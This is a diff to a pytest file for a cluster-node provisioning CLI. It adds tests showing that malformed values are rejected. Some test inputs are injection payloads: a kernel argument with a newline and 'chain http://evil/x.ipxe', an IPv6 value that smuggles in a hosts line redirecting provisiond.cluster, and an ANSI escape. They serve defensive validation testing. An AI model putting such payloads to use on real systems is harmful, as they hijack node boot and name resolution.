@@ -70,12 +70,12 @@ def test_delete_needs_yes(cluster, config):
 @pytest.mark.parametrize("args, message", [
     (["node", "add", "Bad_Name"], "invalid node name 'Bad_Name'"),
     (["node", "add", "n001"], "node n001 already exists"),
-    (["node", "add", "n009", "--mac", "52:54:00:zz:00:09"], "--mac: invalid MAC"),
+    (["node", "add", "n009", "--mac", "52:54:00:zz:00:09"], "netdevs.eth0.mac: invalid MAC"),
     (["node", "add", "n009", "--ipaddr", "10.10.0.11"], "node n009: netdevs.eth0.ipaddr: "
                                                         "10.10.0.11 is already used by node n001"),
     (["node", "add", "n009", "--ipaddr", "10.10.1.9", "--gateway", "10.10.0.1"],
      "node n009: netdevs.eth0.ipaddr: 10.10.1.9 is outside the network"),
-    (["node", "add", "n009", "--ipaddr", "10.10.0.999"], "--ipaddr: invalid IPv4"),
+    (["node", "add", "n009", "--ipaddr", "10.10.0.999"], "netdevs.eth0.ipaddr: invalid IPv4"),
     (["node", "add", "n009", "--profile", "nope"], "node n009: profiles: unknown profile"),
     (["node", "set", "n100", "--image", "tiny"], "no such node: n100"),
     (["node", "set", "n001", "--tag", "rack"], "--tag: expected KEY=VALUE"),
@@ -127,3 +127,84 @@ def test_empty_bmc_password_adds_nothing(cluster, config, monkeypatch):
     assert result.code != 0 and "BMC password: read an empty value" in result.err
     assert config.inventory_path.read_bytes() == before
     assert not config.secrets_path.exists()
+
+
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE2VKIJgSg1BQBvSU0hrcOMnjwkiRUAX6JcU/3rHVLmv a@b"
+
+
+def test_a_range_counts_up_ipv6_mac_and_bmc_addresses(cluster):
+    result = cluster("node", "add", "m[1-3]", "--ipaddr", "10.10.0.51", "--ipaddr6", "fd00::33",
+                     "--mac", "52:54:00:00:01:ff", "--bmc-address", "10.20.0.9")
+    assert result.code == 0, result.err
+    nodes = json.loads(cluster("node", "list", "m[1-3]", "--json").out)
+    assert [n["netdevs"]["eth0"]["ipaddr6"] for n in nodes] == ["fd00::33", "fd00::34", "fd00::35"]
+    assert [n["netdevs"]["eth0"]["mac"] for n in nodes] == [
+        "52:54:00:00:01:ff", "52:54:00:00:02:00", "52:54:00:00:02:01"]
+    assert [n["bmc"]["address"] for n in nodes] == ["10.20.0.9", "10.20.0.10", "10.20.0.11"]
+    assert cluster("node", "set", "m[1-3]", "--bmc-address", "10.30.0.1").code == 0
+    nodes = json.loads(cluster("node", "list", "m[1-3]", "--json").out)
+    assert [n["bmc"]["address"] for n in nodes] == ["10.30.0.1", "10.30.0.2", "10.30.0.3"]
+
+
+def test_commas_split_only_profiles_and_overlays(cluster):
+    keyed = 'from="10.0.0.1,10.0.0.2" ' + KEY
+    result = cluster("node", "set", "n001", "--kernel-arg", "console=ttyS1,115200",
+                     "--kernel-arg", "quiet", "--ssh-key", keyed,
+                     "--system-overlay", "init,hosts")
+    assert result.code == 0, result.err
+    data = json.loads(cluster("node", "show", "n001", "--json").out)
+    assert data["kernel_args"] == ["console=ttyS1,115200", "quiet"]
+    assert data["ssh_authorized_keys"] == [keyed]
+    assert data["system_overlays"] == ["init", "hosts"]
+
+
+@pytest.mark.parametrize("args, message", [
+    (["node", "set", "n003", "--ipaddr6", "fd00::3%x\n10.66.66.66\tprovisiond.cluster"],
+     "node n003: netdevs.eth0.ipaddr6: control character"),
+    (["node", "set", "n003", "--ipaddr6", "fe80::1%eth0"], "scope id"),
+    (["node", "set", "n003", "--ipaddr6", "64:ff9b::10.0.0.5"], "NAT64"),
+    (["node", "set", "n003", "--ipaddr6", "::ffff:10.0.0.5"], "IPv4-mapped"),
+    (["node", "set", "n003", "--kernel-arg", "quiet\nchain http://evil/x.ipxe\n#"],
+     "node n003: kernel_args: control character '\\n'"),
+    (["node", "set", "n003", "--kernel-arg", "quiet splash"], "no whitespace"),
+    (["node", "set", "n003", "--tag", "rack=r1\x1b[2J"], "control character '\\x1b'"),
+    (["node", "set", "n003", "--comment", "a\nb"], "control character"),
+    (["node", "add", "n9\x1b"], "invalid node name"),
+    (["node", "set", "n003", "--mac", "00:00:00:00:00:00"], "all zeros"),
+    (["node", "set", "n003", "--mac", "ff:ff:ff:ff:ff:ff"], "broadcast MAC"),
+    (["node", "set", "n003", "--mac", "01:00:5e:00:00:01"], "multicast MAC"),
+    (["node", "set", "n003", "--ipaddr", "127.0.0.1"], "loopback"),
+    (["node", "set", "n003", "--bmc-timeout", "-5"], "node n003: bmc.timeout: timeout -5"),
+    (["node", "set", "n003", "--bmc-cipher-suite", "99"], "cipher suite 99"),
+    (["node", "set", "n003", "--ssh-key", "not a key"], "not an OpenSSH public key"),
+    (["node", "set", "n[002-003]", "--bmc-address", "bmc.lab"],
+     "bmc.address: 2 nodes need consecutive addresses"),
+])
+def test_values_are_checked_when_stored(cluster, config, args, message):
+    before = config.inventory_path.read_bytes()
+    result = cluster(*args)
+    assert result.code != 0
+    assert message in result.err
+    assert len(result.err.strip().splitlines()) == 1
+    assert config.inventory_path.read_bytes() == before
+
+
+def test_bmc_endpoints_are_unique(cluster):
+    assert cluster("node", "set", "n001", "--bmc-address", "10.20.0.1").code == 0
+    result = cluster("node", "set", "n002", "--bmc-address", "10.20.0.1")
+    assert result.code != 0
+    assert "node n002: bmc.address: 10.20.0.1 is already used by node n001" in result.err
+    # several Redfish systems behind one address are distinct endpoints
+    assert cluster("node", "set", "n001", "--bmc-address", "127.0.0.1", "--bmc-port", "8000",
+                   "--bmc-system-id", "a").code == 0
+    assert cluster("node", "set", "n002", "--bmc-address", "127.0.0.1", "--bmc-port", "8000",
+                   "--bmc-system-id", "b").code == 0
+
+
+def test_the_servers_own_address_is_not_a_nodes(cluster, state_dir):
+    config_path = state_dir / "provisiond.yaml"
+    config_path.write_text(config_path.read_text().replace("address: 127.0.0.1",
+                                                           "address: 10.10.0.1"))
+    result = cluster("node", "set", "n003", "--ipaddr", "10.10.0.1")
+    assert result.code != 0
+    assert "node n003: netdevs.eth0.ipaddr: 10.10.0.1 is already used by the server" in result.err
